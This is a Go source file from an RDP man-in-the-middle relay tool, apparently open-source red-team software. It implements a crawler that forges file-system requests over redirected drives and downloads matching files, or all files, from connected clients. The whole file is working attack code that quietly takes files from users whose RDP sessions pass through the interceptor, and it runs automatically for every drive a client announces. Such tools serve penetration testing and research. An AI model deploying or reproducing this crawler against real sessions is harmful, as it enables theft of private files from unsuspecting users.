// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"log/slog"

	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

type crawlItem struct {
	deviceID uint32
	path     string
}

// Crawler walks redirected drives with forged requests, downloading files
// whose path matches a pattern. It runs one forged operation at a time, always
// taking the first item of the highest priority queue that has one:
//
//	matched files       download
//	matched directories list, download every child
//	unvisited dirs      list, classify every child
//	unvisited drives    list the root, classify every child
type Crawler struct {
	engine   *ForgedEngine
	store    *FileStore
	patterns *Patterns
	log      *slog.Logger
	schedule func(func())

	// Auto queues announced drives for crawling. Without it only explicit
	// downloads run.
	Auto bool
	// DownloadAll also downloads files of a listed directory that match no
	// pattern.
	DownloadAll bool

	matchedFiles    []crawlItem
	matchedDirs     []crawlItem
	unvisitedDirs   []crawlItem
	unvisitedDrives []crawlItem

	busy      bool
	scheduled bool
	devices   map[uint32]string
}

// NewCrawler creates a crawler issuing requests through engine. schedule runs
// the dispatcher later on the session loop.
func NewCrawler(engine *ForgedEngine, store *FileStore, patterns *Patterns, log *slog.Logger, schedule func(func())) *Crawler {
	return &Crawler{
		engine:   engine,
		store:    store,
		patterns: patterns,
		log:      log,
		schedule: schedule,
		devices:  make(map[uint32]string),
	}
}

// Busy reports whether a forged operation is in flight.
func (c *Crawler) Busy() bool { return c.busy }

// Pending returns the number of queued items.
func (c *Crawler) Pending() int {
	return len(c.matchedFiles) + len(c.matchedDirs) + len(c.unvisitedDirs) + len(c.unvisitedDrives)
}

// AddDrive registers an announced file system device and, when crawling
// automatically, queues its root.
func (c *Crawler) AddDrive(deviceID uint32, name string) {
	if _, known := c.devices[deviceID]; known {
		return
	}
	c.devices[deviceID] = name
	c.log.Info("Drive announced", logger.DeviceID(deviceID), logger.DeviceName(name))
	if c.Auto {
		c.unvisitedDrives = append(c.unvisitedDrives, crawlItem{deviceID: deviceID, path: `\`})
		c.kick()
	}
}

// HasDevice reports whether a drive with this id is announced.
func (c *Crawler) HasDevice(deviceID uint32) bool {
	_, ok := c.devices[deviceID]
	return ok
}

// RemoveDevice drops everything queued for a device.
func (c *Crawler) RemoveDevice(deviceID uint32) {
	delete(c.devices, deviceID)
	drop := func(items []crawlItem) []crawlItem {
		kept := items[:0]
		for _, it := range items {
			if it.deviceID != deviceID {
				kept = append(kept, it)
			}
		}
		return kept
	}
	c.matchedFiles = drop(c.matchedFiles)
	c.matchedDirs = drop(c.matchedDirs)
	c.unvisitedDirs = drop(c.unvisitedDirs)
	c.unvisitedDrives = drop(c.unvisitedDrives)
}

// Download queues path on a device for download. A directory is downloaded
// recursively.
func (c *Crawler) Download(deviceID uint32, path string, dir bool) {
	item := crawlItem{deviceID: deviceID, path: path}
	if dir {
		c.matchedDirs = append(c.matchedDirs, item)
	} else {
		c.matchedFiles = append(c.matchedFiles, item)
	}
	c.kick()
}

// kick schedules one dispatch unless one is already pending.
func (c *Crawler) kick() {
	if c.scheduled || c.busy {
		return
	}
	c.scheduled = true
	c.schedule(func() {
		c.scheduled = false
		c.dispatch()
	})
}

func pop(q *[]crawlItem) crawlItem {
	it := (*q)[0]
	*q = (*q)[1:]
	return it
}

// dispatch starts the next queued operation. Items whose request cannot be
// sent are skipped.
func (c *Crawler) dispatch() {
	for !c.busy {
		var err error
		switch {
		case len(c.matchedFiles) > 0:
			it := pop(&c.matchedFiles)
			err = c.download(it)
		case len(c.matchedDirs) > 0:
			it := pop(&c.matchedDirs)
			err = c.list(it, true)
		case len(c.unvisitedDirs) > 0:
			it := pop(&c.unvisitedDirs)
			err = c.list(it, false)
		case len(c.unvisitedDrives) > 0:
			it := pop(&c.unvisitedDrives)
			err = c.list(it, false)
		default:
			return
		}
		if err != nil {
			c.log.Warn("Crawler request failed", logger.Err(err))
		}
	}
}

func (c *Crawler) download(it crawlItem) error {
	c.busy = true
	err := c.engine.ReadFile(it.deviceID, it.path, func(info *recording.FileInfo, err error) {
		if err != nil {
			c.log.Debug("Crawler download failed", logger.DeviceID(it.deviceID), logger.Path(it.path), logger.Err(err))
		}
		c.done()
	})
	if err != nil {
		c.busy = false
	}
	return err
}

func (c *Crawler) list(it crawlItem, download bool) error {
	c.busy = true
	err := c.engine.ListDirectory(it.deviceID, it.path, func(entries []rdp.FileDirectoryEntry, err error) {
		if err != nil {
			c.log.Debug("Crawler listing failed", logger.DeviceID(it.deviceID), logger.Path(it.path), logger.Err(err))
		}
		c.listed(it, entries, download)
		c.done()
	})
	if err != nil {
		c.busy = false
	}
	return err
}

func (c *Crawler) done() {
	c.busy = false
	c.kick()
}

// listed sorts the children of a listed directory into the queues.
func (c *Crawler) listed(dir crawlItem, entries []rdp.FileDirectoryEntry, download bool) {
	if _, known := c.devices[dir.deviceID]; !known {
		return
	}
	if err := c.store.MkdirMirror(dir.deviceID, dir.path); err != nil {
		c.log.Warn("Failed to mirror directory", logger.Path(dir.path), logger.Err(err))
	}
	for _, e := range entries {
		if e.FileName == "." || e.FileName == ".." || e.FileName == "" {
			continue
		}
		child := crawlItem{deviceID: dir.deviceID, path: JoinRemotePath(dir.path, e.FileName)}
		isDir := e.IsDirectory()

		if download {
			c.enqueueMatched(child, isDir)
			continue
		}
		switch c.patterns.Classify(child.path) {
		case VerdictIgnore:
		case VerdictMatch:
			c.enqueueMatched(child, isDir)
		default:
			if isDir {
				c.unvisitedDirs = append(c.unvisitedDirs, child)
			} else if c.DownloadAll {
				c.matchedFiles = append(c.matchedFiles, child)
			}
		}
	}
}

func (c *Crawler) enqueueMatched(it crawlItem, dir bool) {
	if dir {
		c.matchedDirs = append(c.matchedDirs, it)
	} else {
		c.matchedFiles = append(c.matchedFiles, it)
	}
}
